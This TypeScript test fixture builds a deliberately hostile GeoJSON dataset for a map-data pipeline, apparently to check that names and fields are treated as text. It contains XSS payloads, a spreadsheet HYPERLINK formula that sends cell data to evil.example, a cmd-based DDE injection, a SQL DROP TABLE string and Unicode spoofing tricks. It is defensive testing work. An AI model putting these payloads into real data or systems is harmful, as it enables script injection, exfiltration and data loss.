/**
 * A malicious dataset.
 * @module
 */
import { mkdir, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { buildDataset } from "../../pipeline/builder/dataset/build.ts";

const RUN = "window.ran=1";

/** Names that are dangerous if they are not treated as text. */
export const HOSTILE_NAMES: readonly string[] = [
  `<img src=x onerror="${RUN}">`,
  `"><script>${RUN}</script>`,
  "\u202egnp.tac\u2066 reversed",
  "before\u0000after",
  `<svg/onload=${RUN}>${"long ".repeat(2000)}end`,
  `'-${RUN}-'`,
  `javascript:${RUN}`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a name, not a template
  "${window.ran=1}{{window.ran=1}}",
  `{name, select, other {${RUN}}} </b>`,
  `=HYPERLINK("https://evil.example/?"&A1,"Free")`,
  "+1+cmd|' /C calc'!A0",
  `a "quoted", name\r\nwith a second line;'--`,
  `'; DROP TABLE rows; --`,
];

export const PLACE_COUNT = HOSTILE_NAMES.length;
const CENTRE = { lon: 7.4246, lat: 43.7384 };

/** The id of the place with this name. The first id is markup. */
const idOf = (index: number) => (index === 0 ? `"><img src=x onerror=${RUN}>` : `hostile-${index}`);

function feature(id: string, geometry: object, properties: object): object {
  return { type: "Feature", id, geometry, properties };
}

const pointAt = (index: number) => ({ type: "Point", coordinates: [CENTRE.lon + index / 5000, CENTRE.lat] });

function place(name: string, index: number): object {
  return feature(idOf(index), pointAt(index), {
    names: { primary: name, common: { en: name } },
    categories: { primary: name.slice(0, 40), alternate: [name.slice(0, 40)] },
    confidence: 0.9,
    websites: [`javascript:${RUN}`, `data:text/html,<script>${RUN}</script>`, "https://example.com/"],
    socials: [`JaVaScRiPt:${RUN}//https://example.com`],
    emails: [`a@b.example?body=${name.slice(0, 20)}`],
    phones: [name.slice(0, 40)],
    brand: { names: { primary: name }, wikidata: name.slice(0, 40) },
    addresses: [{ freeform: name, locality: name.slice(0, 40), country: "MC" }],
    sources: [{ property: "", dataset: `evil\n\n${name.slice(0, 30)}`, license: `none\n${name.slice(0, 30)}` }],
  });
}

const division = (name: string, index: number) =>
  feature(`division-${index}`, pointAt(index), { country: "MC", subtype: "neighborhood", names: { primary: name } });

const street = (name: string, index: number) =>
  feature(
    `street-${index}`,
    { type: "LineString", coordinates: [0, 0.004].map((off) => [CENTRE.lon + off, CENTRE.lat + index / 5000]) },
    { subtype: "road", class: "primary", names: { primary: name } },
  );

/** Writes the sources into the folder and builds them. Returns the dataset's folder. */
export async function buildHostileDataset(folder: string): Promise<string> {
  const sources = join(folder, "sources");
  await mkdir(sources);
  const made = { place, division, segment: street };
  for (const [type, make] of Object.entries(made)) {
    const features = HOSTILE_NAMES.map(make);
    await writeFile(join(sources, `${type}.geojson`), JSON.stringify({ type: "FeatureCollection", features }));
  }
  const credit = { dataset: "evil", license: "<b>none</b>", text: HOSTILE_NAMES[0], url: "https://example.com/" };
  await writeFile(join(sources, "attribution.json"), JSON.stringify([credit]));
  const out = join(folder, "dataset");
  await buildDataset({ sources: [sources], out });
  return out;
}
